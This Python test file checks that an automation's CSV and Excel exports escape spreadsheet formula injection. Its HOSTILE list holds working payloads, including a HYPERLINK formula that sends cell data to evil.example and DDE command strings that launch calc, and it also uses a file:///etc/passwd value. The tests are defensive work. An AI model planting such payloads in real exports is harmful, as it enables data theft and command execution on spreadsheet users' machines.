"""R21: no value of a record becomes a formula in somebody's spreadsheet."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from automations.actions._cells import formula_safe
from tests.automations.actions.filing import Desk

HOSTILE = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
    "\n=1+1", "=cmd|' /C calc'!A0", "＝1+1", "＠SUM(1)", "-", "+", "=", "@", "+49 170 1234", "-2+3+cmd", "=\x00",
)  # fmt: skip


@pytest.mark.parametrize("delimiter", [",", ";", "|", "tab"])
@pytest.mark.parametrize("opened_with", [",", ";", "|", "\t"])
def test_no_cell_of_a_csv_begins_a_formula_whatever_separator_the_reader_assumes(
    delimiter: str, opened_with: str, tmp_path: Path
) -> None:
    # Given hostile texts, also behind every separator that a reader may assume
    texts = [*HOSTILE, *(f"x{sign}{text}" for text in HOSTILE for sign in (",", ";", "|", "\t", "\n", '"\n'))]
    desk = Desk(tmp_path, [{"title": text, text: "x"} for text in texts])
    desk.output("file.csv", f'path: a.csv, table: things, delimiter: "{delimiter}", columns: [title]')
    # When a spreadsheet opens the file with a separator of its own
    text = desk.bytes_of("a.csv").decode()
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=opened_with):
        for cell in row:
            # Then no cell begins with what it computes
            assert not re.match(r"[=+\-@\t\r\n＝＋－＠]", cell), cell


def test_headings_are_as_safe_as_cells(tmp_path: Path) -> None:
    desk = Desk(tmp_path)
    desk.output("file.csv", "path: a.csv, rows: [{'=1+1': 1}]")
    assert desk.bytes_of("a.csv") == b"'=1+1\r\n1\r\n"


@pytest.mark.parametrize("number", ["-12.50", "+7", "0", "1234567890.12"])
def test_a_plain_number_stays_one(number: str) -> None:
    assert formula_safe(number) == number


@given(st.text(max_size=12))
@settings(max_examples=300, deadline=None)
def test_any_text_is_no_formula_afterwards_and_can_be_told_back(text: str) -> None:
    safe = formula_safe(text)
    assert safe in (text, "'" + text)
    assert not re.match(r"[=@\t\r\n＝＠]", safe)
    assert not re.match(r"[+\-＋－]", safe) or re.fullmatch(r"[+-]?\d+(\.\d+)?", safe)


def test_a_workbook_holds_no_formula_and_no_link_at_all(tmp_path: Path) -> None:
    desk = Desk(tmp_path, [{"title": text, "url": "https://evil.example/", "file": "file:///etc/passwd"} for text in HOSTILE])
    desk.output("file.xlsx", "path: a.xlsx, table: things")
    book = openpyxl.load_workbook(desk.root / "a.xlsx")
    for (cell, *_), text in zip(list(book["Sheet1"].iter_rows(min_row=2)), HOSTILE, strict=True):
        assert cell.data_type == "s"
        assert cell.value == text.replace("\x00", "\ufffd").replace("\r", "_x000D_")
    with zipfile.ZipFile(desk.root / "a.xlsx") as parts:
        for name in parts.namelist():
            assert b"<f>" not in parts.read(name)
            assert b"hyperlink" not in parts.read(name)
            assert b'TargetMode="External"' not in parts.read(name)
